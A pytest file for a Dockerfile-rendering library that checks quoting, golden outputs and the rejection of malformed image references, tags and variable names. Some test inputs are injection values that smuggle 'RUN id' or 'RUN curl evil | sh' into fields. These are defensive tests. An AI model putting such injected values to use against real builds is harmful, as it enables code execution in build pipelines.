"""What users write reaches the Dockerfile so that Docker reads back exactly that, or one clear error.

Golden texts: the whole rendered Dockerfile is compared, so any change in quoting shows up here.
The same values are read back from a real container in test_exact_values_e2e.py.
"""
from __future__ import annotations

import pytest

from flowimg import FlowimgError
from flowimg.errors import NotRepresentable
from flowimg.image.quoting import docker_quoted, shell_quoted
from flowimg.image.reference import Reference, parse_reference, registry_of
from flowimg.image.render import render_dockerfile
from flowimg.image.spec import ImageSpec, check_tag, env_pairs

TRICKY_ENV = {
    "GREETING": "it's $HOME & <b>",
    "QUOTES": 'say "hi" \'there\'',
    "BACKSLASH": "C:\\path\\ and a tail \\",
    "DOLLARS": "${USER:-x} $$ `id`",
    "SPACES": "  padded  value  ",
    "UNICODE": "grüße, 東京 ✓",
    "PIN": "pandas>=2,<3",
    "EMPTY": "",
}
PINNED = ("tinydep>=1,<3", "otherdep==2.0", "thirddep~=1.4", "markerdep; python_version >= \"3.8\" and sys_platform != 'win32'")


def test_golden_dockerfile_with_pins_tricky_env_and_labels():
    spec = ImageSpec(
        base_image="localhost:5000/base:1", repository="localhost:5000/flows", tag="v1",
        python_dependencies=PINNED, wheelhouse="/w", env_vars=env_pairs(TRICKY_ENV),
        extra_commands=("RUN echo extra",),
        labels={"io.flowimg.manifest": '{"a":"it\'s $HOME","b":"x\\\\y\\n","c":"\\u00e9"}',
                "org.opencontainers.image.description": 'flows: "q" & <x> été'},
    )
    assert render_dockerfile(spec) == GOLDEN_WITH_WHEELHOUSE


GOLDEN_WITH_WHEELHOUSE = r'''FROM localhost:5000/base:1

ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PYTHONPATH=/opt/flowimg/lib
ENV BACKSLASH="C:\\path\\ and a tail \\"
ENV DOLLARS="\${USER:-x} \$\$ `id`"
ENV EMPTY=""
ENV GREETING="it's \$HOME & <b>"
ENV PIN="pandas>=2,<3"
ENV QUOTES="say \"hi\" 'there'"
ENV SPACES="  padded  value  "
ENV UNICODE="grüße, 東京 ✓"

ENTRYPOINT ["python3", "-m", "flowimg.runtime"]

COPY wheelhouse /opt/flowimg/wheelhouse
RUN python3 -m pip install --no-cache-dir --no-index --find-links /opt/flowimg/wheelhouse 'tinydep>=1,<3' otherdep==2.0 'thirddep~=1.4' 'markerdep; python_version >= "3.8" and sys_platform != '"'"'win32'"'"'' \
 && rm -rf /opt/flowimg/wheelhouse

RUN echo extra

COPY flowimg/lib /opt/flowimg/lib

COPY code/ /

LABEL "io.flowimg.manifest"="{\"a\":\"it's \$HOME\",\"b\":\"x\\\\y\\n\",\"c\":\"\\u00e9\"}" \
      "org.opencontainers.image.description"="flows: \"q\" & <x> été"
'''


def test_golden_dockerfile_installing_from_an_index():
    spec = ImageSpec(base_image="python:3.11-slim", repository="flows", tag="latest", python_dependencies=("pandas>=2",))
    assert render_dockerfile(spec) == (
        "FROM python:3.11-slim\n\n"
        "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PYTHONPATH=/opt/flowimg/lib\n\n"
        'ENTRYPOINT ["python3", "-m", "flowimg.runtime"]\n\n'
        "RUN python3 -m pip install --no-cache-dir 'pandas>=2'\n\n"
        "COPY flowimg/lib /opt/flowimg/lib\n\n"
        "COPY code/ /\n"
    )


@pytest.mark.parametrize("value, quoted", [
    ("plain", '"plain"'),
    ("a\\b", '"a\\\\b"'),
    ('a"b', '"a\\"b"'),
    ("$HOME", '"\\$HOME"'),
    ("tail\\", '"tail\\\\"'),
])
def test_docker_quoted_escapes_exactly_what_docker_unescapes(value, quoted):
    assert docker_quoted(value) == quoted


@pytest.mark.parametrize("value", ["two\nlines", "carriage\rreturn", "nul\0byte"])
def test_a_line_break_cannot_be_written_and_says_so(value):
    with pytest.raises(NotRepresentable, match="line break"):
        docker_quoted(value, "env_vars value of X")
    with pytest.raises(NotRepresentable, match="line break"):
        shell_quoted(value, "python_dependencies entry")


def test_an_env_value_with_a_newline_is_one_error_naming_the_variable():
    spec = ImageSpec(base_image="b", repository="r", tag="t", env_vars=env_pairs({"MULTI": "a\nb"}))
    with pytest.raises(NotRepresentable, match="env_vars value of MULTI"):
        render_dockerfile(spec)


def test_a_dockerfile_changing_the_escape_character_is_refused():
    spec = ImageSpec(base_image="b", repository="r", tag="t", user_dockerfile="# escape=`\nFROM b\n")
    with pytest.raises(FlowimgError, match="escape directive"):
        render_dockerfile(spec)


@pytest.mark.parametrize("name", ["GOOD\n", "A B", "1X", "X=Y", "X\nRUN id"])
def test_env_names_are_matched_whole(name):
    with pytest.raises(FlowimgError, match="not a valid variable name"):
        env_pairs({name: "v"})


@pytest.mark.parametrize("tag", ["v1\n", "v1\nRUN id", "-x", "a" * 129])
def test_tags_are_matched_whole(tag):
    with pytest.raises(FlowimgError, match="invalid image tag"):
        check_tag(tag)


@pytest.mark.parametrize("text, expected", [
    ("team/flows", Reference(None, "team/flows")),
    ("myteam/flows:1", Reference(None, "myteam/flows", "1")),
    ("localhost/flows", Reference("localhost", "flows")),
    ("localhost:5000/team/flows:v2", Reference("localhost:5000", "team/flows", "v2")),
    ("registry.example/runner", Reference("registry.example", "runner")),
    ("Registry/x", Reference("Registry", "x")),
    ("python:3.11-slim", Reference(None, "python", "3.11-slim")),
    ("base@sha256:" + "a" * 64, Reference(None, "base", None, "sha256:" + "a" * 64)),
])
def test_references_parse_as_docker_parses_them(text, expected):
    assert parse_reference(text) == expected


def test_the_registry_of_a_hub_name_is_the_hub_not_its_first_component():
    assert registry_of("myteam/flows") is None
    assert registry_of("localhost:5000/myteam/flows:1") == "localhost:5000"


@pytest.mark.parametrize("text", ["FROM x\nRUN id", "x\n", "UPPER", "bad//name", "-lead", "a:b:c", "x:tag:tag", "", "x y"])
def test_bad_references_are_refused(text):
    with pytest.raises(FlowimgError, match="invalid image reference"):
        parse_reference(text)


def test_a_base_image_that_adds_a_dockerfile_line_is_refused(tmp_path):
    from flowimg.storage import Docker

    storage = Docker(base_image="python:3.11-slim\nRUN curl evil | sh", image_name="flows")
    with pytest.raises(FlowimgError, match="invalid base_image "):
        storage.image_spec()


def test_golden_buildkit_dockerfile_mounts_pips_cache_and_the_wheelhouse():
    """BuildKit only: pip's cache persists in a cache mount, the wheelhouse is bind-mounted, not copied."""
    spec = ImageSpec(base_image="localhost:5000/base:1", repository="localhost:5000/flows", tag="v1",
                     python_dependencies=("tinydep>=1,<3", "otherdep==2.0"), wheelhouse="/w",
                     labels={"io.flowimg.version": "1"}, user="65532:65532")
    assert render_dockerfile(spec, buildkit=True) == (
        "FROM localhost:5000/base:1\n\n"
        "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PYTHONPATH=/opt/flowimg/lib\n\n"
        'ENTRYPOINT ["python3", "-m", "flowimg.runtime"]\n\n'
        "RUN --mount=type=cache,target=/root/.cache/pip --mount=type=bind,source=wheelhouse,target=/opt/flowimg/wheelhouse \\\n"
        "    python3 -m pip install --no-index --find-links /opt/flowimg/wheelhouse 'tinydep>=1,<3' otherdep==2.0\n\n"
        "COPY flowimg/lib /opt/flowimg/lib\n\n"
        "COPY code/ /\n\n"
        "USER 65532:65532\n\n"
        'LABEL "io.flowimg.version"="1"\n'
    )


def test_golden_buildkit_dockerfile_installing_from_an_index():
    spec = ImageSpec(base_image="python:3.11-slim", repository="flows", tag="latest", python_dependencies=("pandas>=2",))
    assert render_dockerfile(spec, buildkit=True) == (
        "FROM python:3.11-slim\n\n"
        "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PYTHONPATH=/opt/flowimg/lib\n\n"
        'ENTRYPOINT ["python3", "-m", "flowimg.runtime"]\n\n'
        "RUN --mount=type=cache,target=/root/.cache/pip \\\n"
        "    python3 -m pip install 'pandas>=2'\n\n"
        "COPY flowimg/lib /opt/flowimg/lib\n\n"
        "COPY code/ /\n"
    )


def test_the_legacy_render_of_the_same_spec_has_no_mount():
    """The legacy builder cannot read RUN --mount: its Dockerfile installs with pip's cache off."""
    spec = ImageSpec(base_image="python:3.11-slim", repository="flows", tag="latest", python_dependencies=("pandas>=2",),
                     wheelhouse="/w")
    assert render_dockerfile(spec) == (
        "FROM python:3.11-slim\n\n"
        "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PYTHONPATH=/opt/flowimg/lib\n\n"
        'ENTRYPOINT ["python3", "-m", "flowimg.runtime"]\n\n'
        "COPY wheelhouse /opt/flowimg/wheelhouse\n"
        "RUN python3 -m pip install --no-cache-dir --no-index --find-links /opt/flowimg/wheelhouse 'pandas>=2' \\\n"
        " && rm -rf /opt/flowimg/wheelhouse\n\n"
        "COPY flowimg/lib /opt/flowimg/lib\n\n"
        "COPY code/ /\n"
    )
